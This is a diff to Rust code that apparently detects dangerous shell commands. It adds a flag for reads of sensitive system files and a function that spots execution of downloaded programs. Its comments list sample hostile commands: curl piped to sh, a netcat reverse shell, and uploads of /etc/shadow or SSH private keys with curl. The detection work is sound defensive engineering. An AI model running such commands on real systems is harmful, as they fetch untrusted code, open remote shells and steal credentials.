@@ -5,6 +5,7 @@
 //! Called by `calls` with the folded command text; unknown parts are `UNKNOWN_PART`.
 
 use super::paths::{mentions_escape, mentions_mining, normalize};
+use super::value::UNKNOWN_PART;
 
 /// What a command line does, as far as the rules care.
 #[derive(Debug, Default, Clone, PartialEq, Eq)]
@@ -22,6 +23,8 @@ pub struct CommandFacts {
     pub mining: bool,
     pub setid_bits: bool,
     pub secret_read: bool,
+    /// Names a sensitive system file (`cat /etc/passwd`).
+    pub system_read: bool,
     pub capabilities: bool,
     pub network: bool,
     /// `curl ... | sh`, `wget -O f ... && ./f` and the like.
@@ -70,6 +73,23 @@ fn analyse_into(line: &str, depth: u32, facts: &mut CommandFacts) {
         // `cat f | sh -i 2>&1 | nc host port > f`: a shell fed from and to the network.
         facts.reverse_shell |= shell_in_pipe && network_in_pipe;
     }
+}
+
+/// Whether some command of `line` runs one of `downloads` (as the program itself, or as
+/// the script of an interpreter or `source`), or runs a program only known at run time.
+/// Unpacking or inspecting a download (`unzip`, `tar`, `file`, `wc`) runs nothing.
+pub fn runs_downloaded(line: &str, downloads: &[String]) -> (bool, bool) {
+    let (mut named, mut unknown) = (false, false);
+    for pipeline in split_pipelines(line) {
+        for command in pipeline {
+            let simple = Simple::new(&command);
+            named |= simple.runs_one_of(downloads) && simple.name != "chmod";
+            unknown |= simple.name.is_empty() && !command.is_empty()
+                || simple.name.contains(UNKNOWN_PART)
+                || simple.runs_code() && simple.operands().any(|o| o.contains(UNKNOWN_PART));
+        }
+    }
+    (named, unknown)
 }
 
 /// A word of a command line, or a redirection target (`> file`).
@@ -381,6 +401,7 @@ impl<'t> Simple<'t> {
             // `-F file=@/etc/shadow`, `--data-binary @~/.ssh/id_rsa`: the file after `@`/`=`.
             let attached = word.rsplit(['@', '=']).next().unwrap_or(word);
             facts.secret_read |= normalize(word).is_secret() || normalize(attached).is_secret();
+            facts.system_read |= normalize(word).is_system_recon();
             facts.escape |= mentions_escape(word);
         }
     }
